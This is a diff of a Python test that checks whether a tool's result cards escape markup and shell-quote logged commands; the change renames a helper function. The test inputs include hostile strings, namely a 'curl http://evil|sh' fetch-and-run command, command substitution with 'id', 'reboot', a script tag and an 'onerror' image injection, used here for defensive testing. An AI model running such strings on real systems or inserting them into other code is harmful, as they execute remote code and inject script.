@@ -114,12 +114,12 @@ def test_texts_of_a_run_are_no_markup_and_no_shell_commands(tmp_path: Path) -> N
     command = "train a=b; curl http://evil|sh `id` $(id) <script>"
     (run / "overrides.txt").write_text(f"# attempt 1: {command}\n# attempt 2: train c; reboot\n# attempt 3: train 'd\n")
     text = "\n".join(
-        line for line in card_text(card_of(run)).splitlines() if not line.startswith("| command | ``embodyrl")
+        line for line in card_text(build_card(run)).splitlines() if not line.startswith("| command | ``embodyrl")
     )
     assert "<" not in text
     assert text.startswith("# Result card: evil&lt;img src=x onerror=alert(9)&gt;\n")
     assert r"| a\|\`b\`[c\](http://d) |" in text
-    first, second = card_of(run)["command"].split(" && ")
+    first, second = build_card(run)["command"].split(" && ")
     assert shlex.split(first) == ["embodyrl", *command.split()]
     script = f"embodyrl() {{ printf '%s\\n' \"$@\"; }}; {first}; {second}"
     lines = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout.splitlines()
